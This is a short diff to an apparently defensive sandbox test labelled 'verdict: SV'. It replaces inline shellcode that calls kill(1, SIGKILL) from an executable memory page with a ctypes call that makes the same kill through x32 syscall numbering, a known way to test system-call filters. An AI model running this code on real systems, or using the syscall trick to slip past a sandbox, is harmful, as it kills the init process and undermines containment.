@@ -1,5 +1,4 @@
 # verdict: SV
-import ctypes, mmap
-m = mmap.mmap(-1, 4096, prot=7)
-m.write(b'\xb8\x25\x00\x00\x00\xbb\x01\x00\x00\x00\xb9\x09\x00\x00\x00\xcd\x80\xc3')
-ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
+# kill(1, SIGKILL) by x32, which every kernel shows to the filter
+import ctypes
+ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 62), 1, 9)
